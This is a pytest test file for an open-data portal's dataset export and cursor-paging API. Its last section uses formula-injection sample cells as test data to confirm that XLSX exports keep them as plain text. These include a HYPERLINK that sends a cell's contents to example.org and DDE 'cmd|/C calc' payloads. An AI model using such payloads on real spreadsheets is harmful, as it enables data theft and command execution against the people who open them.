"""Streamed exports in every format, and cursors that page past the 10,000-row wall."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from mutuelle.app import create_app
from mutuelle.core.config import Settings

from http_testing import LOOPBACK, admin_key  # type: ignore[import-not-found]

EXPORTS = "/api/explore/v2.1/catalog/datasets/offres/exports"


def test_csv_export_uses_semicolons_and_honours_where(api: TestClient) -> None:
    response = api.get(f"{EXPORTS}/csv", params={"where": 'code_rome = "K2204"', "select": "id, code_commune"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())  # with_bom: true by default, as in v2.1
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["id", "code_commune"], ["1", "69123"], ["2", "69123"], ["8", "69123"]]


def test_csv_export_options_delimiter_quote_all_and_bom(api: TestClient) -> None:
    response = api.get(f"{EXPORTS}/csv", params={"select": "id, libelle", "limit": 1, "delimiter": ",",
                                                 "quote_all": "true", "with_bom": "true"})
    assert response.content.startswith("\ufeff".encode())
    assert response.content.decode("utf-8-sig").splitlines() == ['"id","libelle"', '"1","Agent de nettoyage"']


def test_csv_export_writes_decimal_numbers_with_a_comma_when_asked(api: TestClient) -> None:
    params = {"select": "id, code_commune, salaire, salaire / 2 as moitie, 1234.5 as fixe, "
                        "geo_point_2d", "order_by": "id"}
    comma = api.get(f"{EXPORTS}/csv", params={**params, "decimal": "comma"})
    assert comma.status_code == 200, comma.text
    rows = list(csv.reader(io.StringIO(comma.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["id", "code_commune", "salaire", "moitie", "fixe", "geo_point_2d"]
    # doubles and fixed decimals with a comma; whole numbers, codes and text as they are
    assert rows[1] == ["1", "69123", "1800,5", "900,25", "1234,5", "45.764, 4.8357"]
    assert rows[7][:3] == ["7", "2A004", "1950"] and rows[8][2:4] == ["", ""]  # no salary: empty
    point = api.get(f"{EXPORTS}/csv", params=params)   # the default: a point, as Opendatasoft
    assert list(csv.reader(io.StringIO(point.content.decode("utf-8-sig")), delimiter=";"))[1] == [
        "1", "69123", "1800.5", "900.25", "1234.5", "45.764, 4.8357"]
    tab = api.get(f"{EXPORTS}/csv", params={**params, "decimal": "comma", "delimiter": "\t"})
    assert tab.content.decode("utf-8-sig").splitlines()[1].split("\t")[2] == '"1800,5"'


def test_a_decimal_comma_with_a_comma_delimiter_is_refused_clearly(api: TestClient) -> None:
    clash = api.get(f"{EXPORTS}/csv", params={"decimal": "comma", "delimiter": ","})
    assert clash.status_code == 400
    assert clash.json()["message"] == ("decimal=comma cannot go with delimiter ',': choose the "
                                       "delimiter ';' (the default), tab or '|'")
    unknown = api.get(f"{EXPORTS}/csv", params={"decimal": "virgule"})
    assert unknown.status_code == 400 and "point, comma" in unknown.json()["message"]
    # outside CSV the delimiter means nothing: no clash
    assert api.get(f"{EXPORTS}/json", params={"decimal": "comma", "delimiter": ","}).status_code == 200


def test_json_jsonl_and_geojson_exports_hold_every_record(api: TestClient) -> None:
    as_json = api.get(f"{EXPORTS}/json").json()
    assert len(as_json) == 8 and as_json[6]["code_commune"] == "2A004"
    lines = api.get(f"{EXPORTS}/jsonl", params={"order_by": "salaire desc", "limit": 2}).text.splitlines()
    assert [json.loads(line)["id"] for line in lines] == [6, 3]
    geo = api.get(f"{EXPORTS}/geojson").json()
    assert geo["type"] == "FeatureCollection" and len(geo["features"]) == 8
    assert geo["features"][0]["geometry"] == {"type": "Point", "coordinates": [4.8357, 45.764]}
    assert geo["features"][0]["properties"]["libelle"] == "Agent de nettoyage"


def test_parquet_and_xlsx_exports_read_back(api: TestClient, tmp_path: Path) -> None:
    parquet = tmp_path / "x.parquet"
    parquet.write_bytes(api.get(f"{EXPORTS}/parquet", params={"where": "salaire > 2000"}).content)
    table = pq.read_table(parquet)
    assert table.column("id").to_pylist() == [3, 6]
    xlsx = tmp_path / "x.xlsx"
    xlsx.write_bytes(api.get(f"{EXPORTS}/xlsx", params={"select": "id, code_commune"}).content)
    sheet = load_workbook(xlsx, read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("id", "code_commune") and rows[4] == (4, "01004") and len(rows) == 9


def test_group_by_export(api: TestClient) -> None:
    body = api.get(f"{EXPORTS}/json", params={"select": "code_commune, count(*) as n",
                                              "group_by": "code_commune", "order_by": "code_commune"}).json()
    assert body == [{"code_commune": "01004", "n": 1}, {"code_commune": "2A004", "n": 1},
                    {"code_commune": "69123", "n": 4}, {"code_commune": "69266", "n": 2}]


@pytest.mark.parametrize("fmt, status", [("pdf", 400), ("csv;drop", 400)])
def test_unknown_export_format_is_refused(api: TestClient, fmt: str, status: int) -> None:
    response = api.get(f"{EXPORTS}/{fmt}")
    assert response.status_code == status and "csv" in response.json()["message"]


def test_bad_query_in_an_export_fails_before_streaming(api: TestClient) -> None:
    response = api.get(f"{EXPORTS}/csv", params={"where": "salaire >"})
    assert response.status_code == 400 and "where" in response.json()["message"]


@pytest.fixture(scope="module")
def big(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    home = tmp_path_factory.mktemp("big")
    settings = Settings(home=home, duckdb_memory_limit="512MB")
    client = TestClient(create_app(settings), client=LOOPBACK, raise_server_exceptions=False,
                        headers=admin_key(settings))
    client.post("/api/organisations", json={"name": "T", "slug": "t"})
    client.post("/api/datasets", json={"organisation": "t", "title": "Grand", "slug": "grand"})
    body = "n;pair\n" + "".join(f"{i};{'oui' if i % 2 == 0 else 'non'}\n" for i in range(1, 25_001))
    assert client.post("/api/datasets/grand/versions", files={"file": ("g.csv", body.encode())}).status_code == 201
    client.post("/api/datasets/grand/publish")
    return client


def _walk(client: TestClient, url: str) -> list[int]:
    seen: list[int] = []
    while url:
        response = client.get(url)
        assert response.status_code == 200, response.text
        body = response.json()
        seen += [r["n"] for r in body["results"]]
        url = next((link["href"] for link in body.get("links", []) if link["rel"] == "next"), "")
    return seen


def test_offset_paging_stops_at_the_ten_thousand_wall(big: TestClient) -> None:
    response = big.get("/api/explore/v2.1/catalog/datasets/grand/records", params={"offset": 9950, "limit": 100})
    assert response.status_code == 400 and "after" in response.json()["message"]


def test_cursor_pages_through_every_row_past_the_wall(big: TestClient) -> None:
    seen = _walk(big, "/api/explore/v2.1/catalog/datasets/grand/records?limit=100&where=pair%20is%20true")
    assert seen == list(range(2, 25_001, 2))


def test_cursor_with_order_by_pages_in_order(big: TestClient) -> None:
    seen = _walk(big, "/api/explore/v2.1/catalog/datasets/grand/records?limit=100&order_by=n%20desc&where=n%3C%3D12345")
    assert seen == list(range(12345, 0, -1))


def test_a_forged_cursor_is_refused(big: TestClient) -> None:
    response = big.get("/api/explore/v2.1/catalog/datasets/grand/records", params={"after": "not-a-cursor"})
    assert response.status_code == 400 and "cursor" in response.json()["message"]


# --- spreadsheets: text stays text ----------------------------------------------------------

TRICKY = ['=HYPERLINK("http://example.org/?"&A1,"Cliquez ici")', "+cmd|' /C calc'!A0", "-1+1",
          "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2", "#N/A", "tab\there", "bell\x07"]


@pytest.fixture(scope="module")
def tricky(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    """A portal with a dataset whose text cells look like formulas."""
    home = tmp_path_factory.mktemp("tricky")
    settings = Settings(home=home, duckdb_memory_limit="512MB")
    client = TestClient(create_app(settings), client=LOOPBACK, raise_server_exceptions=False,
                        headers=admin_key(settings))
    client.post("/api/organisations", json={"name": "T", "slug": "t"})
    client.post("/api/datasets", json={"organisation": "t", "title": "Piégé", "slug": "piege"})
    rows = io.StringIO()
    writer = csv.writer(rows, delimiter=";", lineterminator="\n")
    writer.writerow(["n", "montant", "texte"])
    writer.writerows([i + 1, f"{(i + 1) * 1.5}".replace(".", ","), text]
                     for i, text in enumerate(TRICKY))
    created = client.post("/api/datasets/piege/versions",
                          files={"file": ("p.csv", rows.getvalue().encode())})
    assert created.status_code == 201, created.text
    client.post("/api/datasets/piege/publish")
    return client


def test_xlsx_exports_write_formula_like_text_as_text(tricky: TestClient, tmp_path: Path) -> None:
    import zipfile

    response = tricky.get("/api/explore/v2.1/catalog/datasets/piege/exports/xlsx",
                          params={"order_by": "n"})
    assert response.status_code == 200, response.text
    path = tmp_path / "piege.xlsx"
    path.write_bytes(response.content)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if "worksheets/" in n]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    rows = list(load_workbook(path).active.iter_rows(min_row=2))
    assert len(rows) == len(TRICKY)
    for (n, amount, text), source in zip(rows, TRICKY, strict=True):
        # XML holds no control character: Excel's own escape, which spreadsheet programs decode
        assert (text.value, text.data_type) == (source.replace("\x07", "_x0007_"), "s")
        assert isinstance(n.value, int) and n.data_type == "n"
        assert amount.value == pytest.approx(n.value * 1.5) and amount.data_type == "n"


def test_csv_exports_keep_formula_like_text_as_it_is(tricky: TestClient) -> None:
    response = tricky.get("/api/explore/v2.1/catalog/datasets/piege/exports/csv",
                          params={"order_by": "n"})
    rows = list(csv.reader(io.StringIO(response.text), delimiter=";"))
    assert [r[2] for r in rows[1:]] == TRICKY
